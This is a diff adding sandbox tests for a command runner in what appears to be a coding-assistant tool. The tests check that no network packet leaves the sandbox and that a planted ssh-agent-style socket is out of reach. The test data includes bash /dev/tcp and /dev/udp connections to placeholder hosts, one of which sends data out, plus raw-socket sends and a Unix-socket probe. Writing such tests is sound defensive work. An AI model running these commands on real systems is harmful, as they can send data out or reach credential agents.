@@ -1,3 +1,4 @@
+using System.Net.Sockets;
 using CodeAssist.Processes.Running;
 
 namespace CodeAssist.Processes.Tests.Running;
@@ -136,6 +137,54 @@ public sealed class CommandRunnerTests : IDisposable
         Assert.Contains("network is off in this run", outside.Network, StringComparison.Ordinal);
         Assert.NotEqual(0, outside.ExitCode);
         Assert.True(inside.Output.Contains("refused", StringComparison.Ordinal) || inside.Network.Contains("not even loopback", StringComparison.Ordinal), inside.Output);
+    }
+
+    [Theory]
+    [InlineData("bash", "exec 3<>/dev/tcp/2001:db8::1/80")]
+    [InlineData("bash", "exec 3<>/dev/udp/198.18.0.1/53 && echo data >&3")]
+    [InlineData("sh", "getent hosts data.example.org")]
+    [InlineData("sh", "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(bytes(8), (\"198.18.0.1\", 0))'")]
+    [InlineData("sh", "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).sendto(bytes(60), (\"eth0\", 0))'")]
+    public async Task Case_24_no_kind_of_packet_leaves(string shell, string script)
+    {
+        Assert.SkipUnless(OperatingSystem.IsLinux() && File.Exists($"/bin/{shell}"), $"Needs Linux and {shell}.");
+
+        var report = await RunAsync(RunLimits.Usual, shell, "-c", script);
+
+        Assert.NotEqual(0, report.ExitCode);
+    }
+
+    [Fact]
+    public async Task Case_24_an_agent_that_listens_in_the_folder_for_temporary_files_is_out_of_reach()
+    {
+        Assert.SkipUnless(OperatingSystem.IsLinux() && File.Exists("/usr/bin/python3"), "Needs Linux and Python.");
+        var folder = Directory.CreateDirectory($"/tmp/ssh-{Environment.ProcessId}");
+        var path = Path.Combine(folder.FullName, "agent.1");
+        using var agent = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
+        agent.Bind(new UnixDomainSocketEndPoint(path));
+        agent.Listen();
+        try
+        {
+            var report = await RunAsync(RunLimits.Usual, "python3", "-c", $"import socket; socket.socket(socket.AF_UNIX).connect('{path}'); print('reached')");
+
+            Assert.True(report.Network.Contains("not even loopback", StringComparison.Ordinal) || !report.Output.Contains("reached", StringComparison.Ordinal), report.Output);
+        }
+        finally
+        {
+            folder.Delete(recursive: true);
+        }
+    }
+
+    [Fact]
+    public async Task The_network_that_was_wanted_is_off_where_the_policy_does_not_allow_it()
+    {
+        Assert.SkipUnless(OperatingSystem.IsLinux() && File.Exists("/bin/bash"), "Needs Linux and bash.");
+        await using var broker = _sandbox.StartBroker();
+        string[] words = ["bash", "-c", "exec 3<>/dev/tcp/198.18.0.1/80"];
+
+        var (report, _) = await broker.RunCommandAsync(Request(RunLimits.Usual, words) with { WantsNetwork = true, Approved = RunRequest.Content(words, _sandbox.Folder, wantsNetwork: true) }, Cancellation);
+
+        Assert.Contains("Nothing may leave this machine", report!.Network, StringComparison.Ordinal);
     }
 
     [Fact]
